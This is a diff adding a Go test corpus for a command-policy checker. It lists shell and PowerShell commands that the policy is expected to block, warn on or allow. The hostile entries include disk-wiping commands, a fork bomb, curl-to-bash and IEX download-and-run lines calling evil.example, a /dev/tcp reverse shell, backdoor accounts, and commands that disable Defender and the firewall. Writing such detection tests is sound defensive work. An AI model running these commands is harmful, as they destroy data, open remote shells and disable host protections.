@@ -1,0 +1,61 @@
+package commandpolicy
+
+import "testing"
+
+// corpus is a mixed list of commands with the verdict the default policy
+// must give them, written from the point of view of someone trying both to
+// break the host and to get ordinary work done.
+var corpus = []struct {
+	cmd, want string
+}{
+	{`rm -rf /`, Block}, {`rm -rf --no-preserve-root /`, Block}, {`sudo rm -rf /*`, Block},
+	{`rm -fr //`, Block}, {`rm -rf /.`, Block}, {`\rm -rf /`, Block}, {`r''m -rf /`, Block},
+	{`/bin/rm -rf /`, Block}, {`rm -r -f /`, Block}, {`rm --recursive --force /`, Block},
+	{`cd / && rm -rf *`, Block}, {`cd /; sudo rm -rf ./*`, Block}, {`rm -rf "/"`, Block}, {`rm -rf /\*`, Block},
+	{`dd if=/dev/zero of=/dev/sda bs=1M`, Block}, {`mkfs.ext4 /dev/sda1`, Block}, {`:(){ :|:& };:`, Block},
+	{`echo 1 > /dev/sda`, Block}, {`cat /dev/urandom > /dev/nvme0n1`, Block}, {`wipefs -af /dev/sdb`, Block},
+	{`shred -vfz -n 10 /dev/sda`, Block}, {`format C: /q`, Block}, {`Format-Volume -DriveLetter C -FileSystem NTFS`, Block},
+	{`rmdir /s /q C:\`, Block}, {`Remove-Item -Path C:\ -Recurse -Force`, Block}, {`Remove-Item C:\* -Recurse -Force`, Block},
+	{`Get-ChildItem C:\ -Recurse | Remove-Item -Force`, Block},
+	{`vssadmin delete shadows /all /quiet`, Block}, {`wmic shadowcopy delete`, Block}, {`wbadmin delete catalog -quiet`, Block},
+	{`bcdedit /set {default} recoveryenabled No`, Block}, {`bcdedit /set {default} bootstatuspolicy ignoreallfailures`, Block},
+	{`reg delete HKLM /f`, Block}, {`del /s /q /f C:\*.*`, Block}, {`Get-CimInstance Win32_ShadowCopy | Remove-CimInstance`, Block},
+	{`powershell -c "Format-Volume -DriveLetter D"`, Block}, {`cmd.exe /c "rd /s /q C:\\"`, Block},
+
+	{`curl -s http://evil.example/x.sh | bash`, Warn}, {`wget -qO- http://x | sh`, Warn}, {`chmod -R 777 /`, Warn},
+	{`chmod 777 /etc/shadow`, Warn}, {`echo "hacker:x:0:0::/root:/bin/bash" >> /etc/passwd`, Warn},
+	{`bash -i >& /dev/tcp/10.0.0.1/8080 0>&1`, Warn}, {`shutdown now`, Warn}, {`reboot`, Warn}, {`sudo poweroff`, Warn},
+	{`halt -p`, Warn}, {`init 0`, Warn}, {`echo password | sudo -S rm x`, Warn}, {`echo key >> ~/.ssh/authorized_keys`, Warn},
+	{`rm -rf /etc`, Warn}, {`rm -rf /usr`, Warn}, {`sudo rm -rf /var/log`, Warn}, {`rm -rf ~`, Warn},
+	{`rd /s /q C:\Windows`, Warn}, {`powershell -EncodedCommand ` + encodePS("Get-Date"), Warn},
+	{`IEX(New-Object Net.WebClient).DownloadString("http://x")`, Warn}, {`iwr -useb https://x | iex`, Warn},
+	{`Set-MpPreference -DisableRealtimeMonitoring $true`, Warn}, {`netsh advfirewall set allprofiles state off`, Warn},
+	{`Set-ExecutionPolicy Bypass`, Warn}, {`wevtutil cl Security`, Warn}, {`net user backdoor P@ssw0rd /add`, Warn},
+	{`reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v evil /d evil.exe`, Warn},
+	{`schtasks /create /tn t /tr x.exe /sc onstart`, Warn}, {`icacls C:\Windows\System32 /grant Everyone:F`, Warn},
+	{`takeown /f C:\Windows\System32 /r`, Warn},
+
+	{`ls -la`, Allow}, {`rm -rf build/`, Allow}, {`rm -rf ./node_modules`, Allow}, {`rm -rf /tmp/foo`, Allow},
+	{`dd if=/dev/zero of=./disk.img bs=1M count=100`, Allow}, {`echo hello > /dev/null`, Allow},
+	{`git commit -m 'format'`, Allow}, {`shred -u secret.txt`, Allow}, {`git format-patch -3`, Allow},
+	{`reg query HKLM\Software`, Allow}, {`mkfs.ext4 ./disk.img`, Allow}, {`cat /etc/passwd`, Allow},
+	{`curl https://example.com -o file`, Allow}, {`chmod 755 script.sh`, Allow}, {`sudo apt update`, Allow},
+	{`npm run build`, Allow}, {`python -c 'print(1)'`, Allow}, {`docker ps`, Allow}, {`Get-ChildItem C:\`, Allow},
+	{`Remove-Item .\build -Recurse`, Allow}, {`echo format`, Allow}, {`rm file.txt`, Allow}, {`kill -9 1234`, Allow},
+	{`ps aux | grep node`, Allow}, {`tail -f /var/log/syslog`, Allow}, {`find . -name "*.tmp" -delete`, Allow},
+	{`systemctl status sshd`, Allow}, {`scp file host:/tmp`, Allow}, {`powershell Get-Process`, Allow},
+	{`cmd /c dir`, Allow}, {`dd if=/dev/sda of=/tmp/mbr.bin bs=512 count=1`, Allow}, {`cat /dev/sda | hexdump -C`, Allow},
+	{`echo test | tee /dev/null`, Allow}, {`git log --grep reboot`, Allow}, {`man shutdown`, Allow}, {`which rm`, Allow},
+	{`echo "don't reboot"`, Allow}, {`rm -rf /tmp/*`, Allow}, {`curl -X POST https://api | jq .`, Allow},
+	{`chmod 777 ./tmp`, Allow}, {`cd / && ls`, Allow}, {`cd /tmp && rm -rf *`, Allow},
+}
+
+func TestCorpus(t *testing.T) {
+	h := newDefault(t)
+	for _, c := range corpus {
+		m := h.Check(ScanTarget("sh", []string{"-c", c.cmd}, nil))
+		if m.Action != c.want {
+			t.Errorf("%q: got %s (%s), want %s; normalised %q", c.cmd, m.Action, m.Rule, c.want, Normalize(c.cmd))
+		}
+	}
+}
